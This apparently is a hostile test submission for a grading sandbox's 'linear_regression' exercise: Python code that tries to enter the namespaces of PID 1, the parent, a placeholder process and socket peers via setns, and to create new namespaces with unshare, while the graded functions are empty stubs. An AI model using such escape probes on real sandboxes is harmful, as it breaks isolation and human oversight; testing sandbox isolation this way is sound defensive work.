# tries: to make namespaces in which it is root, and to enter those of the grader
# exercise: linear_regression
import ctypes
import os
import socket
import stat

libc = ctypes.CDLL(None, use_errno=True)
KINDS = {
    "user": 0x10000000,
    "mnt": 0x00020000,
    "pid": 0x20000000,
    "net": 0x40000000,
    "ipc": 0x08000000,
    "uts": 0x04000000,
    "cgroup": 0x02000000,
    "time": 0x00000080,
}
for process in ("1", "@PID@", str(os.getppid())):
    for name, kind in KINDS.items():
        try:
            number = os.open(f"/proc/{process}/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(number, kind) == 0:
            print(f"ESCAPED: entered namespace {name} of process {process}")
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            connection = socket.socket(fileno=os.dup(number))
            peer = int.from_bytes(connection.getsockopt(socket.SOL_SOCKET, 77, 4), "little")
            if libc.setns(peer, sum(KINDS.values())) == 0:
                print("ESCAPED: entered the namespaces of the other end")
    except OSError:
        pass
for name, kind in KINDS.items():
    if libc.unshare(kind) == 0:
        print(f"ESCAPED: made a namespace: {name}")
if libc.unshare(KINDS["user"] | KINDS["mnt"] | KINDS["net"]) == 0:
    print("ESCAPED: made a user namespace with others in it")


def compute_loss(*arguments):
    return None


def train_parameters_linear_regression(*arguments, **keywords):
    return None
